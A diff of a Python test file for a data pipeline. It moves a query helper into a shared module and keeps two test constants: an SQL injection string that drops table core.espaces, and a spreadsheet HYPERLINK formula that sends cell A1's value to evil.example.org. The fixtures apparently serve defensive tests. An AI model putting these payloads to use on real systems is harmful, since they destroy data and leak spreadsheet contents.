@@ -10,7 +10,6 @@ import time
 from collections.abc import Iterator
 from datetime import date
 from pathlib import Path
-from typing import Any
 
 import duckdb
 import pytest
@@ -21,20 +20,13 @@ from flows.espaces import espaces
 from flows.pipeline import LoadFailed
 from fsdata.config import sample_path
 from fsdata.fetch import FetchRefused, TransientFetchError, check_url_allowed, fetch
+from tests.helpers import query
 from warehouse.archive import archive, archive_path
 from warehouse.exports import export_table
 
 SAMPLE_2024 = sample_path("espaces", "liste-fs-20240801.csv")
 INJECTION = "'); drop table core.espaces; --"
 FORMULA = '=HYPERLINK("https://evil.example.org/?x="&A1,"cliquez")'
-
-
-def query(home: Path, sql: str, parameters: list[Any] | None = None) -> list[tuple[Any, ...]]:
-    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
-    try:
-        return con.execute(sql, parameters or []).fetchall()
-    finally:
-        con.close()
 
 
 # --- only https on the allow-list, redirects included ---------------------------------------
